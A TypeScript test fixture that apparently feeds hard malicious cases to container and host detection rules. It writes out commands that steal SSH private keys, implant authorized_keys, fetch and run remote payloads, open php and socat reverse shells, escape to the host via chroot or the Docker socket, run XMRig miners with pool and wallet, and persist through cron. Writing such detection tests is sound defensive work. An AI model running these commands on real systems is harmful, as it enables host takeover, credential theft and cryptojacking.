import { cronLine } from '@/lib/rules/testing/cron';
import { running } from '@/lib/rules/testing/intruder-process';
import { walletOf } from '@/lib/rules/testing/wallets';
import { container, host } from '../entry';

const WRITTEN = 'written after the rules had been mended on the corpus, to be hard';

/** Not part of the corpus and of its goals: shapes at the edge of what a specification shows. */
export const HARD_MALICIOUS = [
  container('reads a private key of the host', WRITTEN, `-v /:/root_fs alpine sh -c "cat /root_fs/root/.ssh/id_rsa"`),
  container(
    'adds a key to every home',
    WRITTEN,
    `-d --name redis-helper -v /home:/h alpine sh -c "for u in /h/*; do echo ssh-rsa AAAA >> $u/.ssh/authorized_keys; done"`,
  ),
  container(
    'fetches under a name in a variable',
    WRITTEN,
    `ubuntu sh -c "T=$(mktemp); curl -s http://203.0.113.99/p -o $T; chmod u+x $T; $T"`,
  ),
  container(
    'fetches into a hidden file and starts it',
    WRITTEN,
    `alpine sh -c "wget -O /usr/bin/.x http://203.0.113.99/x && chmod 0755 /usr/bin/.x && nohup /usr/bin/.x >/dev/null 2>&1 &"`,
  ),
  container(
    'python with requests in one expression',
    WRITTEN,
    `python:3 python -c "import requests;exec(requests.get('http://203.0.113.99/a').text)"`,
  ),
  container(
    'node evaluates what it fetches',
    WRITTEN,
    `node:22 node -e "require('http').get('http://203.0.113.99/a',r=>r.on('data',d=>eval(d.toString())))"`,
  ),
  container(
    'php hands out a shell',
    WRITTEN,
    `php:8 php -r "$s=fsockopen('203.0.113.99',4444);exec('/bin/sh -i <&3 >&3 2>&3');"`,
  ),
  container(
    'socat hands out a shell',
    WRITTEN,
    `alpine sh -c "apk add socat; socat TCP:203.0.113.99:443 EXEC:/bin/sh,pty,stderr"`,
  ),
  container(
    'mounts the disk and writes its crontab',
    WRITTEN,
    `--privileged debian sh -c "mount /dev/vda1 /mnt && echo '* * * * * root id' >> /mnt/etc/crontab"`,
  ),
  container('chroot without a command', WRITTEN, `--privileged --pid host -v /:/host busybox chroot /host`),
  container(
    'another algorithm and a wallet',
    WRITTEN,
    `debian /bin/sys -a rx/wow -o 203.0.113.98:4444 -u ${walletOf(500)}`,
  ),
  container(
    'pool and wallet under other names',
    WRITTEN,
    `-e POOL=pool.hashvault.pro:443 -e ADDR=${walletOf(501)} a/b`,
  ),
  container(
    'pool and port apart',
    WRITTEN,
    `alpine /svc --algo=randomx --server pool.supportxmr.com --port 443 --user x`,
  ),
  container(
    'builds a miner from its source',
    WRITTEN,
    `ubuntu bash -c "git clone https://github.com/xmrig/xmrig && cd xmrig && mkdir build && cd build && cmake .. && make && ./xmrig -o 203.0.113.97:443"`,
  ),
  container(
    'unpacks a public miner',
    WRITTEN,
    `ubuntu bash -c "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz; tar xf xmrig-6.21.0-linux-x64.tar.gz; xmrig-6.21.0/xmrig --donate-level 1 -o 203.0.113.97:80"`,
  ),
  container(
    'asks the engine over its socket with curl',
    WRITTEN,
    `-d --network host -v /var/run/docker.sock:/s alpine sh -c "curl --unix-socket /s -X POST http://x/containers/create -d '{Image:alpine,HostConfig:{Binds:[/:/m]}}'"`,
  ),
  container('a shell in a shell', WRITTEN, `alpine sh -c "sh -c $(wget -qO- http://203.0.113.96/i)"`),
  container('tee before the shell', WRITTEN, `alpine sh -c "curl http://203.0.113.96/i | tee /tmp/i | sh"`),
  container(
    'a script, marked and started',
    WRITTEN,
    `alpine sh -c "wget http://203.0.113.96/i.sh; chmod 777 i.sh; ./i.sh"`,
  ),
  container(
    'base64 into a file first',
    WRITTEN,
    `debian sh -c "printf %s aWQ7Y3VybCBodHRwOi8vMjAzLjAuMTEzLjk2L2l8c2g= | base64 -d > /tmp/a; sh /tmp/a"`,
  ),
  host('long options on a host', WRITTEN, {
    processes: [running(['/usr/sbin/cron2', '-a', 'rx/0', '--url', '203.0.113.3:443', '--user', 'x'], { cpuPct: 90 })],
    sockets: [],
  }),
  host('a login shell from tmp', WRITTEN, {
    processes: [running(['-bash'], { exe: '/var/tmp/.ICE-unix/-bash', comm: '-bash', cpuPct: 200 })],
    sockets: [],
  }),
  host('cron with a fallback', WRITTEN, {
    cronEntries: [cronLine('*/20 * * * * (curl -s http://203.0.113.2/a||wget -qO- http://203.0.113.2/a)|sh')],
  }),
  host('cron fetches, marks and starts', WRITTEN, {
    cronEntries: [cronLine('* * * * * cd /tmp; wget http://203.0.113.2/m; chmod +x m; ./m')],
  }),
  host('cron starts a hidden file', WRITTEN, { cronEntries: [cronLine('@reboot /usr/local/share/.cache/run')] }),
];
